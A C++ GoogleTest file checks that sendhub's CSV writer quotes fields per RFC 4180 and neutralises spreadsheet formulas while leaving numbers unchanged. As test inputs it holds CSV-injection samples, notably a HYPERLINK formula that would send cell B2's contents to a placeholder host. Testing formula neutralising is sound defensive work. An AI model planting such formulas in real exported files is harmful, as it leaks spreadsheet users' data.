// sendhub/csv.h, the one CSV writer: RFC 4180 quoting and OWASP formula neutralising.
#include <gtest/gtest.h>

#include "sendhub/csv.h"

namespace sendhub {
namespace {

TEST(CsvWriter, QuotesWhatWouldShiftOrSplitAColumn) {
  EXPECT_EQ(csv::field("plain"), "plain");
  EXPECT_EQ(csv::field("X,Y"), "\"X,Y\"");
  EXPECT_EQ(csv::field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv::field("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv::field("cr\rhere"), "\"cr\rhere\"");
  EXPECT_EQ(csv::row({"a", "b,c", ""}), "a,\"b,c\",\r\n");
}

TEST(CsvWriter, NeutralisesFormulasButNotNumbers) {
  EXPECT_EQ(csv::field("=HYPERLINK(\"http://x\"&B2,\"y\")"), "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"y\"\")\"");
  EXPECT_EQ(csv::field("+1"), "\"'+1\"");
  EXPECT_EQ(csv::field("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(csv::field("-cmd"), "\"'-cmd\"");
  EXPECT_EQ(csv::field("\tx"), "\"'\tx\"");
  EXPECT_EQ(csv::field("-12.5"), "-12.5") << "a negative number stays a number";
  EXPECT_EQ(csv::field("42"), "42");
  EXPECT_EQ(csv::field("-"), "\"'-\"");
}

}  // namespace
}  // namespace sendhub
